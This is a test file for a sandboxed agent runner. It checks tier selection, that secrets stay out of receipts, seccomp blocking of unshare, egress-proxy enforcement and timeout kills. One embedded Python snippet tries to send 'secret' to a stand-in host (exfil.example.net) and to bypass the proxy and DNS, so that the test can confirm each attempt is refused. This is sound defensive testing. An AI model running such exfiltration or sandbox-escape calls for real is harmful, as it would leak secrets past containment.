/**
 * Sandboxed runs end to end: tier selection that never downgrades, refusal of network grants
 * without the egress proxy, secrets injected into the sandbox only (never receipts or the
 * parent's environment), receipts of start and end, violations evented, the real seccomp
 * deny-list in force, and `warden run` exit codes.
 */
import { execFile } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseManifest } from '../../src/sandbox/manifest/index.js';
import { processTierAvailable } from '../../src/sandbox/process-tier.js';
import { detectCgroupMode } from '../../src/sandbox/cgroups.js';
import { runSandboxed, tierForRisk } from '../../src/sandbox/run.js';
import { containerTierAvailable } from '../../src/sandbox/container-tier.js';
import { exportLines, tempWarden, type TempWarden } from '../helpers/warden.js';

const runnable = processTierAvailable().ok && detectCgroupMode() !== undefined && process.getuid?.() === 0;
if (!runnable) console.warn('sandbox run tests SKIPPED: needs bubblewrap, prlimit, a cgroup hierarchy and root');
const CLI = join(process.cwd(), 'dist/cli/main.js');
const SECRET = 'sk-test-value-0123456789abcdef';

let t: TempWarden;
let work: string;
const manifest = (extra = '') => parseManifest(`version: "1.0"\nagent: { name: report-bot, runtime: python3 }\n${extra}`, { dataDir: t.dir });

beforeAll(async () => {
  t = await tempWarden();
  work = mkdtempSync(join(tmpdir(), 'warden-run-'));
  chmodSync(work, 0o755); // reachable by the sandbox's host uid (65534)
  mkdirSync(join(work, 'in'));
  writeFileSync(join(work, 'in', 'data.txt'), 'input data\n');
  await t.w.secrets.set('default', 'EXAMPLE_API_KEY', SECRET);
  for (const id of ['report-bot', 'looper', 'jailed']) await t.w.agents.create('default', { id });
  await t.w.agents.quarantine('default', 'jailed', { actor: { human: 'test' } });
});
afterAll(async () => {
  await t.cleanup();
  rmSync(work, { recursive: true, force: true });
});

describe('tier selection', () => {
  it('auto picks by reach: nothing → process, network or secrets or writes → container, network plus more → microvm', () => {
    expect(tierForRisk(manifest()).tier).toBe('process');
    expect(tierForRisk(manifest('secrets: [A_KEY]')).tier).toBe('container');
    expect(tierForRisk(manifest('permissions: { network: { allow: ["api.example.com"] } }\nsecrets: [A_KEY]')).tier).toBe('microvm');
  });
});

describe.runIf(runnable)('runs', () => {
  it('receipts start and end; the secret reaches the sandbox only; the deny-list is in force', async () => {
    const before = process.env.EXAMPLE_API_KEY;
    const r = await runSandboxed(t.w, {
      tenant: 'default', manifest: manifest(`tier: process\npermissions: { fs: { read: ["${join(work, 'in')}"] } }\nsecrets: [EXAMPLE_API_KEY]`), tier: 'process',
      command: ['python3', '-c', `import os, ctypes\nprint(open("${join(work, 'in', 'data.txt')}").read().strip())\nprint(os.environ["EXAMPLE_API_KEY"] == "${SECRET}")\nlibc = ctypes.CDLL(None, use_errno=True)\nprint("unshare", libc.unshare(0x10000000), ctypes.get_errno())`],
      actor: { human: 'test' },
    });
    expect(process.env.EXAMPLE_API_KEY).toBe(before);
    expect(r.stdout.toString()).toBe('input data\nTrue\nunshare -1 1\n'); // EPERM from the seccomp deny-list
    expect(r.exitCode).toBe(0);
    const lines = (await exportLines(t.w)).map((l) => JSON.parse(l));
    const start = lines[r.receipts.start.seq];
    const end = lines[r.receipts.end.seq];
    expect(start).toMatchObject({ kind: 'run', action: 'run.start', decision: 'allow', payload: { tier: 'process', secrets: ['EXAMPLE_API_KEY'], command: { name: 'python3' } } });
    expect(start.payload.tier_choice).toMatch(/chosen explicitly by the operator \(grants would require container\)/);
    expect(start.payload.manifest_digest).toMatch(/^[0-9a-f]{64}$/);
    expect(end).toMatchObject({ kind: 'run', action: 'run.end', payload: { exit_code: 0, killed: null } });
    expect((await exportLines(t.w)).some((l) => l.includes(SECRET))).toBe(false);
  });

  it('refuses a tier that is not available here, a manifest naming a weaker tier than its grants need, and unregistered or quarantined agents — receipted, never downgraded', async () => {
    await expect(runSandboxed(t.w, { tenant: 'default', manifest: manifest('tier: docker'), command: ['true'], actor: { human: 'test' } })).rejects.toThrow(/never runs a tool in a weaker tier/);
    // tier: process with secrets: the grants require container, which the manifest cannot waive.
    // tier: process with network and secrets: the grants require microvm, which the manifest cannot waive.
    await expect(runSandboxed(t.w, { tenant: 'default', manifest: manifest('tier: process\npermissions: { network: { allow: ["api.example.com"] } }\nsecrets: [EXAMPLE_API_KEY]'), command: ['true'], actor: { human: 'test' } })).rejects.toThrow(/tier microvm \(required by the manifest's grants|microvm tier cannot yet carry network/);
    const named = (name: string) => parseManifest(`version: "1.0"\nagent: { name: ${name}, runtime: sh }\ntier: process\n`, { dataDir: t.dir });
    await expect(runSandboxed(t.w, { tenant: 'default', manifest: named('nobody-registered'), command: ['true'], actor: { human: 'test' } })).rejects.toThrow(/not registered/);
    await expect(runSandboxed(t.w, { tenant: 'default', manifest: named('jailed'), command: ['true'], actor: { human: 'test' } })).rejects.toThrow(/is quarantined/);
    const refusals = (await exportLines(t.w)).map((l) => JSON.parse(l)).filter((l) => l.action === 'run.refuse');
    expect(refusals.length).toBeGreaterThanOrEqual(1);
    expect(refusals.every((l) => l.decision === 'deny')).toBe(true);
  });

  it('network only through the egress proxy: allowed destinations work, others get 403, direct connections and DNS fail; each request evented', async () => {
    const server = createServer((q, r) => r.end(`host says ${q.url}\n`));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as AddressInfo).port;
    const seen: Record<string, unknown>[] = [];
    const off = t.w.events.subscribe((e) => {
      if (e.category === 'egress' || e.category === 'egress_refused') seen.push({ category: e.category, ...e.details });
    });
    try {
      const r = await runSandboxed(t.w, {
        tenant: 'default', manifest: manifest(`tier: process\npermissions: { network: { allow: ["127.0.0.1:${port}"] } }`), tier: 'process', actor: { human: 'test' },
        command: ['python3', '-c', [
          'import urllib.request, socket',
          `print(urllib.request.urlopen("http://127.0.0.1:${port}/ok", timeout=5).read().decode().strip())`,
          'try:\n  urllib.request.urlopen("http://exfil.example.net/?d=secret", timeout=5); print("LEAK")\nexcept Exception as e: print("proxy refused", getattr(e, "code", None))',
          `try:\n  urllib.request.build_opener(urllib.request.ProxyHandler({})).open("http://127.0.0.1:${port}/direct", timeout=2); print("DIRECT LEAK")\nexcept Exception: print("direct refused")`,
          'try:\n  socket.gethostbyname("exfil.example.net"); print("DNS LEAK")\nexcept Exception: print("dns refused")',
        ].join('\n')],
      });
      expect(r.stdout.toString()).toBe('host says /ok\nproxy refused 403\ndirect refused\ndns refused\n');
      expect(seen).toEqual([
        expect.objectContaining({ category: 'egress', host: '127.0.0.1', port, status: 200 }),
        expect.objectContaining({ category: 'egress_refused', host: 'exfil.example.net', status: 403 }),
      ]);
      const end = (await exportLines(t.w)).map((l) => JSON.parse(l))[r.receipts.end.seq];
      expect(end.payload).toMatchObject({ egress_requests: 2, egress_refused: 1 });
    } finally {
      off();
      server.close();
    }
  });

  it.runIf(containerTierAvailable().ok)('auto sends a manifest with secrets to the container tier (runc), the proxy working there too', async () => {
    const server = createServer((_q, r) => r.end('from host\n'));
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as AddressInfo).port;
    try {
      const r = await runSandboxed(t.w, {
        tenant: 'default', manifest: manifest(`permissions: { network: { allow: ["127.0.0.1:${port}"] } }`), actor: { human: 'test' },
        command: ['python3', '-c', `import urllib.request, os\nprint(os.getuid(), urllib.request.urlopen("http://127.0.0.1:${port}/", timeout=5).read().decode().strip())`],
      });
      expect(r.tier).toBe('container');
      expect(r.stdout.toString()).toBe('65534 from host\n');
      const end = (await exportLines(t.w)).map((l) => JSON.parse(l))[r.receipts.end.seq];
      expect(end.payload.container_id).toMatch(/^warden-/);
    } finally {
      server.close();
    }
  });

  it('a kill for time is a sandbox_violation event, and `warden run` exits 124 with the reason', async () => {
    const file = join(work, 'agent.yaml');
    writeFileSync(file, 'version: "1.0"\nagent: { name: looper, runtime: sh }\ntier: process\npermissions: { execution_time: 1s }\n');
    const r = await new Promise<{ code: number; stderr: string }>((resolve) => {
      execFile(process.execPath, [CLI, 'run', '--data', t.dir, '--manifest', file, '--', 'sh', '-c', 'while true; do :; done'], (err, _o, stderr) => resolve({ code: err ? Number((err as { code?: number }).code) : 0, stderr }));
    });
    expect(r.code).toBe(124);
    expect(r.stderr).toMatch(/killed: execution time limit reached/);
    const ends = (await exportLines(t.w)).map((l) => JSON.parse(l)).filter((l) => l.action === 'run.end');
    expect(ends.at(-1).payload.killed).toBe('timeout');
    const [event] = await t.w.store.listEvents({ tenant: 'default', categories: ['sandbox_violation'], limit: 1, order: 'desc' });
    expect(JSON.parse(event?.body as string)).toMatchObject({ severity: 'medium', details: { violation: 'timeout', agent: 'looper' } });
  });
});
